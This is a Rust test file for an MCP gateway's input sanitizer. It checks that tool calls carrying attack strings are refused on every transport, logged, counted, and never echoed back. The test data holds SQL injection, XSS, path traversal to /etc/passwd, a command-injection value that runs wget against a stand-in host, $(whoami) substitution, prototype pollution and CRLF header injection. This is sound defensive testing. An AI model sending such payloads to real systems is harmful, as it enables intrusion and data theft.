//! Promise: an attack in what a message carries reaches no upstream, on any door, in any era; its caller reads which rule and which field, nobody reads the value
//! again; it is recorded and counted. `SANITIZE_MODE` and the policy say what is looked for.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, reason = "tests")]

#[path = "support/blackbox/mod.rs"]
mod blackbox;

use blackbox::{Caller, Conversation, DOORS, Door, Gateway, Next, Received, TOKEN, Upstream, result};
use serde_json::{Value, json};

/// A server over HTTP that takes any call.
fn server() -> Upstream {
    Upstream::start(|request: &Received, conversation: &mut Conversation| {
        let id = request.id();
        match (request.method(), request.rpc_method().as_str()) {
            ("POST", "initialize") => {
                let answer = "{\"protocolVersion\":\"2025-11-25\",\"capabilities\":{\"tools\":{}},\"serverInfo\":{\"name\":\"a\",\"version\":\"1\"}}";
                conversation.json(&result(&id, answer))
            }
            ("POST", "tools/list") => {
                conversation.json(&result(&id, "{\"tools\":[{\"name\":\"send\",\"inputSchema\":{}}]}"))
            }
            ("POST", "tools/call" | "prompts/get") => {
                conversation.json(&result(&id, "{\"content\":[{\"type\":\"text\",\"text\":\"sent\"}]}"))
            }
            ("POST", _) => {
                conversation.send(b"HTTP/1.1 202 Accepted\r\nContent-Length: 0\r\n\r\n");
                Next::Keep
            }
            _ => {
                conversation.send(b"HTTP/1.1 405 X\r\nContent-Length: 0\r\n\r\n");
                Next::Keep
            }
        }
    })
}

fn gateway(server: &Upstream, settings: &[(&str, &str)], policy: &str) -> Gateway {
    let mut all = vec![("WORKERS", "1"), ("RATE_LIMIT_ENABLED", "false")];
    all.extend_from_slice(settings);
    Gateway::with_policy(&all, &format!("[upstream.only]\nurl = \"http://{}/mcp\"\n{policy}", server.address)).ready()
}

fn call(caller: &mut Caller<'_>, arguments: &str) -> Value {
    let answer = caller.ask("tools/call", &format!("\"name\":\"send\",\"arguments\":{arguments}"));
    serde_json::from_str(&answer).unwrap_or_else(|_| panic!("{answer}"))
}

fn is_sent(answer: &Value) -> bool {
    answer["result"]["content"][0]["text"] == "sent"
}

/// What each call carries, and what its caller reads of it: rule, field, and what the sentence names.
const ATTACKS: [(&str, &str, &str, &str); 6] = [
    (r#"{"note":"secret7' OR '1'='1"}"#, "sql-injection", "/params/arguments/note", "note"),
    (r#"{"note":"\u003cimg src=secret7 onerror=x()\u003e"}"#, "xss", "/params/arguments/note", "note"),
    (
        r#"{"list":[{"file":"..%2f..%2f..%2fetc%2fsecret7"}]}"#,
        "path-traversal",
        "/params/arguments/list/0/file",
        "/params/arguments/list/0/file",
    ),
    (r#"{"note":"secret7; wget http://a.example/x"}"#, "command-injection", "/params/arguments/note", "note"),
    (r#"{"secret7 \u003cscript\u003ex":1}"#, "xss", "/params/arguments", "/params/arguments"),
    (r#"{"a":{"__proto__":{"secret7":true}}}"#, "prototype-pollution", "/params/arguments/a", "a"),
];

#[test]
fn an_attack_is_refused_on_every_door_and_what_it_said_is_nowhere() {
    let server = server();
    let gateway = gateway(&server, &[], "");
    for door in DOORS {
        let mut caller = Caller::new(&gateway, door, TOKEN);
        assert!(
            is_sent(&call(&mut caller, r#"{"note":"It's Alice's turn; bring 'cake' & tea, and select a seat."}"#)),
            "{door:?}"
        );
        server.take_requests();
        for (arguments, rule, field, named) in ATTACKS {
            let answer = call(&mut caller, arguments);
            let refusal = &answer["result"];
            assert_eq!(refusal["isError"], true, "{door:?}: {answer}");
            let told = &refusal["structuredContent"];
            assert_eq!((&told["rule"], &told["field"]), (&json!(rule), &json!(field)), "{door:?}: {answer}");
            let text = told["error"].as_str().unwrap();
            assert!(text.starts_with(&format!("Invalid input for \"{named}\": ")), "{door:?}: {text}");
            assert_eq!(refusal["content"], json!([{"type": "text", "text": text}]), "{door:?}");
            assert!(!answer.to_string().contains("secret7"), "{door:?}: {answer}");
        }
        assert!(server.requests().iter().all(|request| request.rpc_method() != "tools/call"), "{door:?}");
        assert!(is_sent(&call(&mut caller, r#"{"note":"hello"}"#)), "{door:?}: the connection stays");
    }
    let line = gateway.audited("invalid_input", |line| line["rule"] == "sql-injection");
    assert_eq!(line["tool"], "send");
    let details = line["details"].as_str().unwrap();
    assert!(details.starts_with("sql-condition at /params/arguments/note byte "), "{details}");
    assert!(!gateway.trail().iter().any(|line| line.to_string().contains("secret7")));
    assert!(!gateway.log().contains("secret7"));
    let doors = DOORS.len() as f64;
    assert_eq!(gateway.metric_of("ringwall_inspection_findings_total", "rule=\"prototype-key\""), doors);
    assert_eq!(gateway.metric_of("ringwall_refusals_total", "rule=\"prototype-pollution\""), doors);
}

#[test]
fn other_messages_are_looked_at_too_and_are_answered_with_errors_where_they_should_be() {
    let server = server();
    let gateway = gateway(&server, &[("DENIAL_STYLE", "jsonrpc-error")], "");
    for door in [Door::Http, Door::TcpStateless, Door::WebSocket] {
        let mut caller = Caller::new(&gateway, door, TOKEN);
        server.take_requests();
        let answer = call(&mut caller, r#"{"note":"-1 union select 1,2"}"#);
        assert_eq!(answer["error"]["code"], -32602, "{door:?}: {answer}");
        assert!(answer["error"]["message"].as_str().unwrap().starts_with("Invalid input for \"note\": "), "{answer}");
        let answer = caller.ask("prompts/get", r#""name":"p","arguments":{"a":"$(whoami)"}"#);
        assert!(answer.contains("-32602") && !answer.contains("whoami"), "{door:?}: {answer}");
        assert!(
            server
                .requests()
                .iter()
                .all(|request| !request.text().contains("union") && !request.text().contains("whoami"))
        );
    }
}

#[test]
fn monitor_records_and_lets_pass_and_off_does_not_look() {
    for (mode, findings) in [("monitor", 1.0), ("off", 0.0)] {
        let server = server();
        let gateway = gateway(&server, &[("SANITIZE_MODE", mode)], "");
        let mut caller = Caller::new(&gateway, Door::Tcp, TOKEN);
        assert!(is_sent(&call(&mut caller, r#"{"note":"<script>x</script>"}"#)), "{mode}");
        assert_eq!(gateway.metric_of("ringwall_inspection_findings_total", "rule=\"xss-script\""), findings, "{mode}");
        if mode == "monitor" {
            let line = gateway.audited("invalid_input", |line| line["rule"] == "xss");
            assert!(line["details"].as_str().unwrap().contains("let pass"), "{line}");
            assert_eq!(line["tool"], "send");
        }
    }
}

#[test]
fn the_policy_says_what_arguments_are_and_what_is_looked_for() {
    let server = server();
    let policy = "[tool.send]\nsubject = \"subject\"\nexempt = [\"path-traversal\"]\n\
                  arguments = { \"/query\" = \"sql\", to = \"phone\" }\n[inspect]\noff = [\"shell-substitution\"]\npatterns = [\"corp.internal\"]\n";
    let gateway = gateway(&server, &[], policy);
    let mut caller = Caller::new(&gateway, Door::Http, TOKEN);
    for arguments in [
        r#"{"query":"select 1 union select 2 -- x","to":"+14155550100"}"#,
        r#"{"file":"../../../etc/passwd"}"#,
        r#"{"note":"$(whoami)"}"#,
        r#"{"body":"one\r\ntwo"}"#,
    ] {
        let answer = call(&mut caller, arguments);
        assert!(is_sent(&answer), "{arguments}: {answer}");
    }
    for (arguments, rule) in [
        (r#"{"to":"555 0100"}"#, "format"),
        (r#"{"subject":"one\r\nBcc: a@b.example"}"#, "crlf-injection"),
        (r#"{"note":"see CORP.internal"}"#, "format"),
        (r#"{"other":"select 1 union select 2"}"#, "sql-injection"),
    ] {
        let answer = call(&mut caller, arguments);
        assert_eq!(answer["result"]["structuredContent"]["rule"], rule, "{arguments}: {answer}");
    }
}

#[test]
fn the_command_says_what_would_become_of_a_message() {
    let server = server();
    let gateway = gateway(&server, &[], "[tool.send]\narguments = { to = \"phone\" }\n");
    let inspect = |content: &str| {
        let path = gateway.folder().join("message.json");
        std::fs::write(&path, content).unwrap();
        let output = gateway.command(&["inspect", "--json", path.to_str().unwrap()]);
        (output.status.code(), String::from_utf8(output.stdout).unwrap())
    };
    let message = |arguments: &str| {
        format!(
            "{{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{{\"name\":\"send\",\"arguments\":{arguments}}}}}"
        )
    };
    assert_eq!(inspect(&message(r#"{"to":"+14155550100"}"#)), (Some(0), "{\"passes\":true}\n".to_owned()));
    let (status, text) = inspect(&message(r#"{"to":"secret7"}"#));
    let told: Value = serde_json::from_str(&text).unwrap();
    assert_eq!((status, &told["rule"], &told["field"]), (Some(1), &json!("not-phone"), &json!("/params/arguments/to")));
    assert!(!text.contains("secret7"));
    assert_eq!(inspect("{").0, Some(2));
    assert_eq!(gateway.command(&["inspect", "no-such-file"]).status.code(), Some(2));
}
